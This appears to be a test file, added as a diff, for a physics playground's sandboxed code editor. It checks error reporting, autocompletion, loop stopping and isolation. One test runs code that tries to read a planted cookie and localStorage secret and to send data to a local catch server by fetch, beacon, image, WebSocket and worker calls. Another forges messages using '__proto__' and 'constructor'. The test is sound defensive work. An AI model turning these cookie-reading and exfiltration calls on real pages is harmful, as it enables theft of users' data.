@@ -1,0 +1,217 @@
+// Code of readers: it runs as they type, tells where it is wrong, and gets out of its sandbox in no way.
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { keepScreenshot, runSteps, staysFinite, useSite } from './playground.ts';
+
+const { openScene } = useSite();
+
+/** Counts who calls. */
+const calls: string[] = [];
+const server = createServer((request, response) => {
+  calls.push(request.url ?? '');
+  response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('caught');
+});
+let outside = '';
+beforeAll(async () => {
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  outside = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+});
+afterAll(() => server.close());
+
+async function openCode(page: Page): Promise<void> {
+  await page.locator('.tabs [data-tab=code]').click();
+  await page.locator('.cm-content').getByText('defineScene').first().waitFor();
+}
+
+/** Writes over everything in the editor, as a person would. */
+async function write(page: Page, text: string): Promise<void> {
+  await page.locator('.cm-content').focus();
+  await page.keyboard.press('Control+a');
+  await page.keyboard.insertText(text);
+}
+
+const status = (page: Page) => page.locator('.code-status');
+const says = (page: Page, words: RegExp | string) =>
+  status(page).filter({ hasText: words }).waitFor({ timeout: 30_000 });
+
+const scene = (build: string, rest = '') => `import { addBall, addGround } from './parts/common.js';
+import { defineScene } from './scene.js';
+${rest}
+export default defineScene({
+  title: 'Mine',
+  description: 'of the test',
+  tags: [],
+  camera: { position: [3, 2, 5], target: [0, 1, 0] },
+  controls: { lift: { label: 'Lift', value: 3, min: 0, max: 9, step: 1, live: true } },
+  build({ world, values }) {
+${build}
+  },
+});
+`;
+
+test('an edit runs by itself; what is wrong is told by its line, and the last good scene goes on', async () => {
+  const { page, complaints } = await openScene('pyramid');
+  await openCode(page);
+  await write(page, scene('    addGround(world);\n    addBall(world, [0, 2, 0], 0.5);'));
+  await says(page, 'Runs');
+  expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Mine');
+  expect(await page.evaluate(() => window.holonomPlayground?.world.bodies.length)).toBe(2);
+  await runSteps(page, 10);
+
+  await write(page, scene('    addGround(world);\n    addBall(world, [0, 2, 0], -1);'));
+  await says(page, /Line 12: .*radius.*-1/);
+  expect(await page.evaluate(() => window.holonomPlayground?.world.bodies.length)).toBe(2);
+  await write(page, scene('    addGround(world;'));
+  await says(page, 'Line 11');
+  await page.locator('.cm-lint-marker-error, .cm-lintRange-error').first().waitFor();
+  await keepScreenshot(page, 'code-error');
+  await runSteps(page, 5);
+  expect(complaints).toEqual([]);
+});
+
+test('code acts before each step, sees where things are, and its live controls work', async () => {
+  const { page, complaints } = await openScene('tower');
+  await openCode(page);
+  const build = `    addGround(world);
+    const ball = addBall(world, [0, 1, 0], 0.25, { name: 'lifted' });
+    let { lift } = values;
+    return {
+      beforeStep(time: number) {
+        ball.linearVelocity = [0, lift * (2 - ball.position[1]), time > 1e9 ? 1 : 0];
+      },
+      apply(changed) { lift = changed.lift; },
+    };`;
+  await write(page, scene(build));
+  await says(page, 'Runs');
+  const height = () =>
+    page.evaluate(() => window.holonomPlayground?.world.bodies.at(1)?.position[1] ?? 0);
+  await page.waitForFunction(
+    () => (window.holonomPlayground?.world.bodies.at(1)?.position[1] ?? 0) > 1.8,
+  );
+  expect(await height()).toBeLessThan(2.2);
+  expect(await staysFinite(page)).toBe(true);
+  await page.locator('.tabs [data-tab=scene]').click();
+  await page.getByLabel('Lift', { exact: true }).first().fill('0');
+  await page.keyboard.press('Tab');
+  await page.waitForFunction(
+    () => Math.abs(window.holonomPlayground?.world.bodies.at(1)?.linearVelocity[1] ?? 9) < 0.2,
+  );
+  expect(complaints).toEqual([]);
+});
+
+test('the editor completes from the types of the package and underlines what they forbid', async () => {
+  const { page } = await openScene('pyramid');
+  await openCode(page);
+  await write(page, scene("    addGround(world);\n    world.substeps = 'two';\n    world."));
+  await page.keyboard.press('Control+End');
+  for (let i = 0; i < 3; i++) await page.keyboard.press('ArrowUp');
+  await page.keyboard.press('End');
+  await page.keyboard.type('addC', { delay: 50 });
+  await page.locator('.cm-tooltip-autocomplete').getByText('addCloth').waitFor({ timeout: 30_000 });
+  await keepScreenshot(page, 'code-completion');
+  await page.keyboard.press('Escape');
+  await page.locator('.cm-lintRange-error').first().waitFor({ timeout: 30_000 });
+});
+
+test('an endless loop is stopped, when building and when stepping', async () => {
+  const { page } = await openScene('pyramid');
+  await openCode(page);
+  await write(page, scene('    for (;;) addGround;'));
+  await says(page, 'was stopped');
+  await runSteps(page, 5);
+  await write(page, scene('    addGround(world);\n    return { beforeStep() { for (;;); } };'));
+  await says(page, 'Runs');
+  await says(page, 'was stopped');
+  await runSteps(page, 5);
+});
+
+test('code reads nothing of the page and reaches nothing outside', async () => {
+  const { page } = await openScene('pyramid');
+  await page.evaluate(() => {
+    // biome-ignore lint/suspicious/noDocumentCookie: something to steal
+    document.cookie = 'secret=1';
+    localStorage.setItem('secret', '1');
+  });
+  await openCode(page);
+  const tries = `
+const got: string[] = [];
+const attempt = (name: string, work: () => unknown) => {
+  try {
+    const value = work();
+    if (value !== undefined && value !== null) got.push(name);
+    if (value instanceof Promise) value.then(() => got.push(name + ' came true'), () => {});
+  } catch {}
+};
+const all = globalThis as any;
+const url = '${outside}/';
+attempt('document', () => all.document);
+attempt('cookie', () => all.document.cookie);
+attempt('window', () => all.window);
+attempt('parent', () => all.parent.document);
+attempt('top', () => (all.top.location = url));
+attempt('localStorage', () => all.localStorage.getItem('secret'));
+attempt('rtc', () => all.RTCPeerConnection);
+attempt('beacon', () => all.navigator.sendBeacon(url + 'beacon'));
+attempt('image', () => { new all.Image().src = url + 'image'; return 1; });
+attempt('importScripts', () => { all.importScripts(url + 'script'); return 1; });
+attempt('xhr', () => { const r = new all.XMLHttpRequest(); r.open('GET', url + 'xhr', false); r.send(); return 1; });
+try { all.fetch(url + 'fetch').then(() => got.push('fetch'), () => {}); } catch {}
+try { all.fetch(url + 'no-cors', { mode: 'no-cors' }).then(() => got.push('no-cors'), () => {}); } catch {}
+try { new all.WebSocket(url.replace('http', 'ws') + 'socket').onopen = () => got.push('socket'); } catch {}
+try { new all.EventSource(url + 'events').onopen = () => got.push('events'); } catch {}
+try { new all.WebTransport(url.replace('http', 'https') + 'transport'); } catch {}
+try { import(/* any */ (url + 'module') as any).then(() => got.push('module'), () => {}); } catch {}
+try { new all.Worker(url + 'worker'); } catch {}
+try { new all.Worker(URL_OF('fetch("' + url + 'nested")')); } catch {}
+try { all.indexedDB.open('x').onsuccess = () => got.push('indexedDB'); } catch {}
+try { all.caches.open('x').then(() => got.push('caches'), () => {}); } catch {}
+try { all.location.href = url + 'location'; } catch {}
+try { all.postMessage({ from: 'code' }, '*'); } catch {}
+function URL_OF(text: string) { return all.URL.createObjectURL(new all.Blob([text])); }
+`;
+  const build = `    addGround(world);
+    let steps = 0;
+    const ball = addBall(world, [0, 1, 0], 0.2);
+    return { beforeStep() { if (++steps === 30) ball.name = 'got: ' + got.join(', '); } };`;
+  await write(page, scene(build, tries));
+  await says(page, 'Runs');
+  await page.waitForFunction(() =>
+    window.holonomPlayground?.world.bodies.at(1)?.name.startsWith('got:'),
+  );
+  expect(await page.evaluate(() => window.holonomPlayground?.world.bodies.at(1)?.name)).toBe(
+    'got: ',
+  );
+  await page.waitForTimeout(500);
+  expect(calls).toEqual([]);
+  // The page itself could have called, so the door was open.
+  await page.evaluate((address) => fetch(`${address}/page`), outside);
+  expect(calls).toEqual(['/page']);
+  expect(page.url()).toContain('playground.html');
+});
+
+test('what comes out of the sandbox is checked', async () => {
+  const { page } = await openScene('pyramid');
+  await openCode(page);
+  // Messages of its own making, past the recorder.
+  const forge = (order: string) => `const send = MessagePort.prototype.postMessage;
+MessagePort.prototype.postMessage = function (this: MessagePort, data: any) {
+  if (data.result?.orders) data.result.orders = [${order}];
+  return send.call(this, data);
+} as any;
+declare const MessagePort: any;
+type MessagePort = any;`;
+  for (const [order, words] of [
+    ["['call', 0, 'dispose', [], -1]", 'not offered: dispose'],
+    ["['call', 0, 'constructor', ['alert(1)'], -1]", 'not offered: constructor'],
+    ["['set', 0, '__proto__', {}]", 'not offered: __proto__'],
+    ["['call', 99, 'remove', [], -1]", 'not offered: 99'],
+    ["['find', 1, 'constructor', 0]", 'not offered: constructor'],
+  ] as const) {
+    await write(page, scene('    addGround(world);', forge(order)));
+    await says(page, words);
+  }
+  await runSteps(page, 5);
+  expect(await page.evaluate(() => window.holonomPlayground?.world.bodies.length)).toBe(93);
+});
